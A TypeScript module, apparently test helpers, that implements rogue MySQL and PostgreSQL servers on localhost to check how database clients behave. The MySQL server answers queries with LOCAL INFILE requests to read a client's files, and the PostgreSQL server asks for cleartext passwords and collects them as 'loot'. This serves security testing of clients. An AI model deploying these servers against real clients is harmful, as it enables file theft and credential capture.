/** Database servers that are none: each speaks so much of its protocol as it takes to get at what a client should keep to itself. */
import { once } from 'node:events';
import { type AddressInfo, createServer, type Socket } from 'node:net';

export interface RogueServer {
  readonly port: number;
  /** What clients gave away. */
  readonly loot: string[];
  close(): Promise<void>;
}

/**
 * As MySQL: answers every statement that it can with the request for a file of the client's (LOCAL INFILE Request, the client/server
 * protocol's answer to a LOAD DATA LOCAL, be it one or not).
 */
export function rogueMysql(file: string): Promise<RogueServer> {
  return listen((socket, loot) => {
    const send = (seq: number, ...parts: Buffer[]) => socket.write(mysqlPacket(seq, Buffer.concat(parts)));
    const ok = (seq: number) => send(seq, Buffer.from([0, 0, 0, 2, 0, 0, 0]));
    let expects: 'login' | 'command' | 'file' = 'login';
    send(0, mysqlGreeting());
    onPackets(socket, mysqlSize, (packet) => {
      const seq = (packet[3] as number) + 1;
      const body = packet.subarray(4);
      if (expects === 'file') {
        if (body.length > 0) loot.push(body.toString());
        else {
          expects = 'command';
          ok(seq);
        }
        return;
      }
      const command = expects === 'login' ? undefined : body[0];
      const text = body.subarray(1).toString();
      expects = 'command';
      const asksFor = (command === COM_QUERY && !/^(?:SET|START)/.test(text)) || command === COM_STMT_EXECUTE;
      if (asksFor) {
        expects = 'file';
        send(seq, Buffer.from([0xfb]), Buffer.from(file));
      } else if (command === COM_STMT_PREPARE) {
        send(seq, Buffer.from([0, 1, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0]));
        send(seq + 1, mysqlColumn());
        send(seq + 2, Buffer.from([0xfe, 0, 0, 2, 0]));
      } else if (command === COM_QUIT) socket.end();
      else if (command !== COM_STMT_CLOSE) ok(seq);
    });
  });
}

/** As PostgreSQL: asks for the password in plain text, and repeats it in a notice and in an error. */
export function roguePostgres(): Promise<RogueServer> {
  return listen((socket, loot) => {
    const message = (type: string, ...parts: Buffer[]) => {
      const body = Buffer.concat(parts);
      const head = Buffer.alloc(5);
      head.write(type);
      head.writeUInt32BE(body.length + 4, 1);
      socket.write(Buffer.concat([head, body]));
    };
    const says = (severity: string, text: string) =>
      Buffer.from(`S${severity}\0V${severity}\0C28P01\0M${text}\0\0`);
    let begun = false;
    onPackets(
      socket,
      (bytes) =>
        begun ? bytes.length > 4 && 1 + bytes.readUInt32BE(1) : bytes.length > 3 && bytes.readUInt32BE(0),
      (packet) => {
        if (!begun && packet.readUInt32BE(4) === SSL_REQUEST) socket.write('N');
        else if (!begun) {
          begun = true;
          message('R', Buffer.from([0, 0, 0, 3]));
        } else if (packet[0] === 'p'.charCodeAt(0)) {
          const password = packet.subarray(5, -1).toString();
          loot.push(password);
          message('R', Buffer.from([0, 0, 0, 0]));
          message('N', says('NOTICE', `you sent ${password}`));
          message('E', says('FATAL', `and ${password} is wrong`));
          socket.end();
        }
      },
    );
  });
}

const SSL_REQUEST = 80877103;
const COM_QUIT = 0x01;
const COM_QUERY = 0x03;
const COM_STMT_PREPARE = 0x16;
const COM_STMT_EXECUTE = 0x17;
const COM_STMT_CLOSE = 0x19;

async function listen(serve: (socket: Socket, loot: string[]) => void): Promise<RogueServer> {
  const loot: string[] = [];
  const sockets = new Set<Socket>();
  const server = createServer((socket) => {
    sockets.add(socket);
    socket.on('error', () => undefined).on('close', () => sockets.delete(socket));
    serve(socket, loot);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    port: (server.address() as AddressInfo).port,
    loot,
    close: async () => {
      for (const socket of sockets) socket.destroy();
      server.close();
      await once(server, 'close');
    },
  };
}

/** Tells of each whole packet; `size` is that of the first in these bytes, as far as it can be told. */
function onPackets(
  socket: Socket,
  size: (bytes: Buffer) => number | false,
  told: (packet: Buffer) => void,
): void {
  let rest: Buffer = Buffer.alloc(0);
  socket.on('data', (bytes) => {
    rest = Buffer.concat([rest, bytes]);
    for (let length = size(rest); length !== false && length <= rest.length; length = size(rest)) {
      const packet = rest.subarray(0, length);
      rest = rest.subarray(length);
      told(packet);
    }
  });
}

function mysqlSize(bytes: Buffer): number | false {
  return bytes.length > 3 && 4 + bytes.readUIntLE(0, 3);
}

function mysqlPacket(seq: number, body: Buffer): Buffer {
  const head = Buffer.alloc(4);
  head.writeUIntLE(body.length, 0, 3);
  head[3] = seq;
  return Buffer.concat([head, body]);
}

/** HandshakeV10, with CLIENT_LOCAL_FILES among what it can. */
function mysqlGreeting(): Buffer {
  const can = 0x1 | 0x2 | 0x4 | 0x8 | 0x80 | 0x200 | 0x2000 | 0x8000 | 0x80000;
  return Buffer.concat([
    Buffer.from('\x0a8.0.0-rogue\0'),
    Buffer.from([1, 0, 0, 0]),
    Buffer.from('abcdefgh\0'),
    Buffer.from([can & 255, (can >> 8) & 255, 33, 2, 0, (can >> 16) & 255, (can >> 24) & 255, 21]),
    Buffer.alloc(10),
    Buffer.from('ijklmnopqrst\0mysql_native_password\0'),
  ]);
}

/** A text. */
function mysqlColumn(): Buffer {
  const name = (text: string) => Buffer.concat([Buffer.from([text.length]), Buffer.from(text)]);
  const type = Buffer.from([12, 33, 0, 255, 0, 0, 0, 253, 0, 0, 0, 0, 0]);
  return Buffer.concat([...['def', 'd', 't', 't', 'x', 'x'].map(name), type]);
}
